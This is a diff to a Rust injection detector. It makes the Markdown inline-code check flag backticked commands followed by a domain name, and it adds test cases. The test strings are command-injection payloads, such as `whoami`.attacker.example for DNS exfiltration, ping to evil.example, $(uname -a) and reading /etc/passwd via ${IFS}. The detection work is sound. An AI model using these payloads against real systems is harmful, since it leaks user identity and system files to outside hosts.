@@ -2082,8 +2082,14 @@ fn sentence(b: &[u8], sep: usize, after: usize) -> bool {
 }
 
 /// One word in backticks between spaces or punctuation (`` the `time` crate ``): Markdown's
-/// inline code when the value has words around it.
+/// inline code when the value has words around it. A dot glued to a name after it is no
+/// sentence's end: `` `whoami`.attacker.example `` sends the output out as a DNS label.
 fn inline_code(b: &[u8], open: usize, word_end: usize) -> bool {
+    if b.get(word_end + 1) == Some(&b'.')
+        && b.get(word_end + 2).is_some_and(u8::is_ascii_alphanumeric)
+    {
+        return false;
+    }
     let before = open == 0
         || matches!(
             b[open - 1],
@@ -2650,6 +2656,9 @@ mod tests {
             "127.0.0.1 && ping -c 10 evil.example",
             "`id`",
             "echo `x` `whoami`",
+            // Output sent out as a DNS label, in a sentence or alone.
+            "`whoami`.attacker.example",
+            "nslookup `whoami`.attacker.example now",
             "'`'`id`",
             "$(uname -a)",
             "a;c${IFS}at${IFS}/etc/passwd",
@@ -2914,6 +2923,7 @@ mod tests {
             "<!--# note -->",
             // Markdown inline code in prose; flags and commands in phrases.
             "the `time` crate: date and time",
+            "Run `make test`. Then `make install`.",
             "- Use the `kern.arandom` sysctl on NetBSD. [#115]",
             "apply to panics when parsing invalid `TZ` strings or invalid",
             "homogeneous arrays with non-`Copy` inner strategies.",
